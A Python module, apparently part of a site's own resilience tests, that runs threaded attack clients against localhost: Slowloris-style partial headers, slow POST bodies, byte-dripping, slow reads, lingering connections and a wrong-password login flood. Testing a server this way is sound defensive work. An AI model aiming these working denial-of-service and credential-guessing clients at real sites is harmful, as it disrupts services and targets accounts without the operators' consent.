"""Clients that do what no browser does, each in a thread, again and again until the end."""

import socket
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from http.client import HTTPConnection, HTTPException
from threading import Event, Thread
from urllib.parse import urlencode
from uuid import uuid4

from attack.probing import PATIENCE

HALF_A_HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nAccept"
HALF_A_BODY = (
    b"POST /accounts/sign-in/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\n\r\nemail=alice"
)
FORM = "application/x-www-form-urlencoded"
Client = Callable[[int, Event], None]  # of a port, until the end


@contextmanager
def many(number: int, client: Client, port: int) -> Iterator[None]:
    """So many of them, each of which begins anew where it is cut."""
    ends = Event()

    def run() -> None:
        while not ends.wait(0.05):
            with suppress(OSError, HTTPException):
                client(port, ends)

    threads = [Thread(target=run) for _ in range(number)]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        ends.set()
        for thread in threads:
            thread.join()


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=0.2)


def wait_for_end(connection: socket.socket, ends: Event) -> None:
    """Of the attack, or of the connection by the site."""
    while not ends.is_set():
        with suppress(TimeoutError):
            if not connection.recv(1000):
                return


def send_half(half: bytes) -> Client:
    def client(port: int, ends: Event) -> None:
        with connect(port) as connection:
            connection.sendall(half)
            wait_for_end(connection, ends)

    return client


def drip(port: int, ends: Event) -> None:
    with connect(port) as connection:
        for byte in HALF_A_HEAD + b"a" * 1000:
            connection.sendall(bytes([byte]))
            if ends.wait(1):
                return


def linger(port: int, ends: Event) -> None:
    """Asks for the end of the connection, and does not end it."""
    with connect(port) as connection:
        connection.sendall(b"GET /ping HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        ends.wait(20)


def read_nothing(path: str) -> Client:
    """Asks for much, and takes none of it."""

    def client(port: int, ends: Event) -> None:
        with socket.socket() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            connection.connect(("127.0.0.1", port))
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 20)
            ends.wait(40)

    return client


def guess(port: int, ends: Event) -> None:
    """A wrong password, each time for another account."""
    form = {"username": f"{uuid4()}@example.org", "password": "a wrong password"}
    ask(port, "POST", "/api/auth/login", urlencode(form), {"Content-Type": FORM})


def submit(path: str, headers: dict[str, str]) -> Client:
    return lambda port, ends: ask(port, "POST", path, "", headers)


def ask_home(port: int, ends: Event) -> None:
    ask(port, "GET", "/")


def ask(
    port: int, method: str, path: str, body: str = "", headers: Mapping[str, str] | None = None
) -> None:
    connection = HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
    try:
        connection.request(method, path, body, {"Host": "localhost"} | dict(headers or {}))
        connection.getresponse().read()
    finally:
        connection.close()
